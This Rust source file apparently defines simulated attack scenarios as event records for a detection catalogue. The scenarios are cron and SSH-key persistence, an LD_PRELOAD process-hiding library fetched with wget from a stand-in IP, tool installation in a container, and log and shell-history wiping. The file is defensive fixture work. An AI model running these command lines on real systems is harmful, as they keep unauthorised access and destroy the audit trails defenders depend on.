//! Ways to stay, and to hide.

use super::loads;
use crate::catalogue::builder::{Builder, Owner, Program};

pub(super) fn add(b: &mut Builder, main: &Owner, probe: &Owner) {
    accounts(b, main);
    preload(b, main);
    packages(b, probe);
    logs(b, probe);
}

/// What runs or lets in later: a crontab, a key.
fn accounts(b: &mut Builder, main: &Owner) {
    let g = b.attack("cron-persistence");
    b.writes(g, main, "upper", &["/etc/cron.d/.sysstat"]);
    let crontab = b.child(
        g,
        main,
        Program { exe: "/usr/bin/crontab", args: "crontab -", uid: 33, ..Program::default() },
    );
    loads(b, g, &crontab);
    b.writes(g, &crontab, "upper", &["/var/spool/cron/crontabs/tmp.5QeHnN"]);
    b.file(g, &crontab, "/var/spool/cron/crontabs/www-data", &["create", "rename_to"], "upper");

    let g = b.attack("ssh-key");
    b.file(g, main, "/home/app/.ssh", &["mkdir"], "upper");
    let tee = b.child(
        g,
        main,
        Program { exe: "/usr/bin/tee", args: "tee -a /home/app/.ssh/authorized_keys", ..Program::default() },
    );
    loads(b, g, &tee);
    b.file(g, &tee, "/home/app/.ssh/authorized_keys", &["write", "create", "append"], "upper");
}

/// A library in every program that starts from now on.
fn preload(b: &mut Builder, main: &Owner) {
    let g = b.attack("ld-preload");
    let wget = b.child(
        g,
        main,
        Program {
            exe: "/usr/bin/wget",
            args: "wget -qO /usr/local/lib/libprocesshider.so http://192.0.2.44/l",
            ..Program::default()
        },
    );
    loads(b, g, &wget);
    b.connect(g, &wget, "tcp", "192.0.2.44", 80, &[]);
    b.writes(g, &wget, "upper", &["/usr/local/lib/libprocesshider.so"]);
    b.writes(g, main, "upper", &["/etc/ld.so.preload"]);
}

/// Tools from the distribution, in a container that runs.
fn packages(b: &mut Builder, probe: &Owner) {
    let g = b.attack("package-install");
    let apt = b.child(
        g,
        probe,
        Program { exe: "/usr/bin/apt-get", args: "apt-get install -y nmap", ..Program::default() },
    );
    b.reads(g, &apt, &["/etc/apt/sources.list", "/var/lib/dpkg/status"]);
    b.writes(g, &apt, "upper", &["/var/cache/apt/pkgcache.bin", "/var/log/apt/history.log"]);
    let http = b.child(
        g,
        &apt,
        Program { exe: "/usr/lib/apt/methods/http", uid: 42, cred_change: true, ..Program::default() },
    );
    b.calls(g, &http, "deb.debian.org", 80);
    b.writes(g, &http, "upper", &["/var/cache/apt/archives/partial/nmap_7.93_amd64.deb"]);
    let dpkg = b.child(
        g,
        &apt,
        Program { exe: "/usr/bin/dpkg", args: "dpkg --unpack nmap_7.93_amd64.deb", ..Program::default() },
    );
    b.writes(g, &dpkg, "upper", &["/usr/bin/nmap", "/var/lib/dpkg/info/nmap.list"]);
}

/// Traces that go: the shell of the session empties and removes what was logged.
fn logs(b: &mut Builder, probe: &Owner) {
    let g = b.attack("log-wiping");
    for path in ["/var/log/wtmp", "/var/log/lastlog"] {
        b.file(g, probe, path, &["write", "truncate"], "copied_up");
    }
    let rm = b.child(
        g,
        probe,
        Program {
            exe: "/usr/bin/rm",
            args: "rm -f /var/log/auth.log /home/app/.bash_history",
            ..Program::default()
        },
    );
    loads(b, g, &rm);
    for path in ["/var/log/auth.log", "/var/log/syslog", "/home/app/.bash_history"] {
        b.file(g, &rm, path, &["unlink"], "upper");
    }
}
